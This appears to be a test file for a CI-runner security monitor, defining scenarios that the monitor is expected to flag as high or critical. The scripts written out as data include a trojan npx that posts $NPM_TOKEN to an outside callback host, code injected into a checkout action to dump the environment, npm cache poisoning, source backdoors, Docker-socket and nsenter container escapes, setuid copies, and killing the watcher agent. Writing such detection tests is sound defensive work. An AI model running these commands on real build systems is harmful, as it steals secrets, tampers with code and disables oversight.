// Scenario variants for THREATS.md classes 14–17 (cache poisoning, source tampering, container escape /
// privilege, watcher tampering). The host's resolv.conf is never touched: the job's private mount namespace binds a temp copy over it.
import t from 'tap';
import { runSuite, type Variant } from '../helpers/scenario-suite.js';

const variants: Variant[] = [
  { cls: 14, name: 'append to an action under _work/_actions', min: 'high', spec: () => ({ trigger: 'push', script: `
echo 'require("child_process").execSync("env > /tmp/x")' >> "$RUNNER_ROOT/_work/_actions/actions/checkout/v4/dist/index.js"` }) },
  { cls: 14, name: 'cp a trojan npx into the tool cache', min: 'high', spec: () => ({ trigger: 'pull_request', script: `
printf '#!/bin/sh\\ncurl -s http://oast.pro/t -d "$NPM_TOKEN"\\n' > "$SCEN_DIR/npx"
cp "$SCEN_DIR/npx" "$RUNNER_TOOL_CACHE/node/20.11.0/x64/bin/npx"` }) },
  { cls: 14, name: 'poisoned entry in the shared npm cache (~/.npm/_cacache) from a fork', min: 'high', spec: () => ({ trigger: 'pull_request', fork: true, script: `
mkdir -p ~/.npm/_cacache/content-v2/sha512/ab/cd
printf 'module.exports = () => require("child_process").execSync("id")\\n' > ~/.npm/_cacache/content-v2/sha512/ab/cd/ef0123` }) },

  { cls: 15, name: 'perl -pi rewrite of a tracked source file', min: 'high', spec: () => ({ trigger: 'push', script: `
perl -pi -e 's/return a \\+ b;/return a + b + 1;/' src/util.c
make -s && echo built` }) },
  { cls: 15, name: 'python appends to a tracked source file', min: 'high', spec: () => ({ trigger: 'push', script: `
python3 -c 'open("src/main.c", "a").write("\\n/* */\\n")'
make -s && echo built` }) },
  { cls: 15, name: 'changed then restored with cp around the build', min: 'high', spec: () => ({ trigger: 'push', script: `
cp src/util.h "$SCEN_DIR/util.h.bak"
printf '#define WIDGET_BACKDOOR 1\\n' >> src/util.h
make -s && echo built
cp "$SCEN_DIR/util.h.bak" src/util.h` }) },

  { cls: 16, name: 'curl to a Docker socket from a fork PR', min: 'high', spec: () => ({ trigger: 'pull_request', fork: true, unixSockets: ['run/docker.sock'], script: `
curl -s -m 3 --unix-socket "$SCEN_DIR/run/docker.sock" http://localhost/v1.43/containers/json >/dev/null || true` }) },
  { cls: 16, name: 'nsenter -t 1 into the host namespaces', min: 'high', spec: () => ({ trigger: 'pull_request', fork: true, script: `
nsenter -t 1 -m -u -i -- true && echo entered` }) },
  { cls: 16, name: 'setuid copy of a binary', min: 'high', spec: () => ({ trigger: 'push', script: `
mkdir -p "$SCEN_DIR/.x" && cp /usr/bin/id "$SCEN_DIR/.x/id" && chmod 4755 "$SCEN_DIR/.x/id"` }) },

  { cls: 17, name: 'pkill -f of the agent-like process', min: 'critical', spec: () => ({ trigger: 'push', decoyAgent: true, script: `
pkill -x -f "$SCEN_DIR/bin/runwarden-agent 300" || true` }) },
  { cls: 17, name: 'kill -9 of the agent by pid', min: 'critical', spec: () => ({ trigger: 'push', decoyAgent: true, script: `
kill -9 "$DECOY_PID"` }) },
  { cls: 17, name: 'resolv.conf appended (private bind mount)', min: 'critical', spec: () => ({ trigger: 'push', script: `
echo 'nameserver 127.77.66.66' >> /etc/resolv.conf` }) },
];

runSuite(t, variants);
